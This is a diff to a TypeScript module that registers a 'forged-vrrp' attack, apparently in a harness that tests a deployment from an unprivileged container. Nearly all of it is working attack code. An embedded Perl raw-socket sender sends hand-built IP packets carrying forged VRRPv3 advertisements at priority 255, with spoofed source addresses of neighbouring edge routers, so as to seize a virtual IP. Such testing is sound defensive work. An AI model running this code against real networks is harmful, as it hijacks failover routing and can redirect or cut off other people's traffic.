@@ -2,42 +2,70 @@ import { networkInterfaces } from 'node:os';
 import { execa } from 'execa';
 import { register } from '../attack.ts';
 
-/** Sends what it gets on stdin, one packet a line in hex, as IP protocol 112 to VRRP's group. Perl: node has no raw sockets. */
-const SENDER = `use Socket;
-socket(my $s, PF_INET, SOCK_RAW, 112) or die "no raw socket: $!";
-setsockopt($s, 0, 33, pack("C", 255)) or die "ttl: $!";
-my $to = pack_sockaddr_in(0, inet_aton("224.0.0.18"));
-for (my $n = 0; $n < 50; $n++) { send($s, pack("H*", $ARGV[0]), 0, $to) or die "send: $!"; select(undef, undef, undef, 0.1); }`;
+/** VRRP's group (RFC 5798, 5.1.1.2). */
+const GROUP = '224.0.0.18';
 
-/** A VRRPv3 advertisement (RFC 5798, 5.1) with the checksum over its pseudo-header. */
-function advertisement(vrid: number, priority: number, vip: string, source: string): string {
-  const bytes = (address: string): number[] => address.split('.').map(Number);
-  const packet = [0x31, vrid, priority, 1, 0, 30, 0, 0, ...bytes(vip)];
-  const all = [...bytes(source), 224, 0, 0, 18, 0, 112, 0, packet.length, ...packet];
+/** Sends whole IP packets, each an argument `<address>/<hex>`, ten times a second for five seconds. Node has no raw sockets. */
+const SENDER = `use Socket;
+socket(my $s, PF_INET, SOCK_RAW, 255) or die "no raw socket: $!";
+setsockopt($s, 0, 3, 1) or die "headers of one's own: $!";
+for (my $n = 0; $n < 50; $n++) {
+  for (@ARGV) { my ($to, $packet) = split "/"; send($s, pack("H*", $packet), 0, pack_sockaddr_in(0, inet_aton($to))); }
+  select(undef, undef, undef, 0.1);
+}`;
+
+const bytesOf = (address: string): number[] => address.split('.').map(Number);
+
+/** A VRRPv3 advertisement (RFC 5798, 5.1) with the checksum over its pseudo-header, behind an IP header with TTL 255. */
+function packet(source: string, to: string, vrid: number, priority: number, vip: string): string {
+  const body = [0x31, vrid, priority, 1, 0, 30, 0, 0, ...bytesOf(vip)];
+  const all = [...bytesOf(source), ...bytesOf(to), 0, 112, 0, body.length, ...body];
   let sum = 0;
   for (let at = 0; at < all.length; at += 2) sum += (all[at] << 8) | all[at + 1];
   while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
-  const checksum = ~sum & 0xffff;
-  packet[6] = checksum >> 8;
-  packet[7] = checksum & 0xff;
-  return Buffer.from(packet).toString('hex');
+  body.splice(6, 2, (~sum & 0xffff) >> 8, ~sum & 0xff);
+  // The kernel adds identification and checksum of the header.
+  const header = [
+    0x45,
+    0,
+    0,
+    20 + body.length,
+    0,
+    0,
+    0,
+    0,
+    255,
+    112,
+    0,
+    0,
+    ...bytesOf(source),
+    ...bytesOf(to),
+  ];
+  return Buffer.from([...header, ...body]).toString('hex');
 }
 
 register({
   name: 'forged-vrrp',
-  tries: 'tells the edges by VRRP that somebody of higher priority has the VIP (NET_RAW is Docker’s default)',
+  tries:
+    'tells the edges by VRRP, in its own name and in that of each of them, that somebody else has the VIP (NET_RAW is Docker’s default)',
   as: ['nobody'],
   seconds: 10,
   async run(attacker) {
-    const { vip, vrid } = attacker.target;
+    const { vip, vrid, neighbours } = attacker.target;
     const own = Object.values(networkInterfaces())
       .flat()
-      .find((each) => each?.family === 'IPv4' && !each.internal);
-    const packet = advertisement(vrid, 255, vip, own?.address ?? '127.0.0.1');
-    const { exitCode, stderr } = await execa('perl', ['-e', SENDER, packet], {
+      .flatMap((each) => (each?.family === 'IPv4' && !each.internal ? [each.address] : []));
+    const edges = neighbours.filter(({ role }) => role === 'edge').map(({ address }) => address);
+    const packets = [...edges, GROUP].flatMap((to) =>
+      [...own, ...edges.filter((edge) => edge !== to)].map(
+        (source) => `${to}/${packet(source, to, vrid, 255, vip)}`,
+      ),
+    );
+    const { exitCode, stderr } = await execa('perl', ['-e', SENDER, ...packets], {
       reject: false,
       stdin: 'ignore',
     });
-    return { did: exitCode === 0 ? '50 advertisements of priority 255' : String(stderr), got: [] };
+    const did = `${packets.length} advertisements of priority 255, 50 times`;
+    return { did: exitCode === 0 ? did : String(stderr), got: [] };
   },
 });
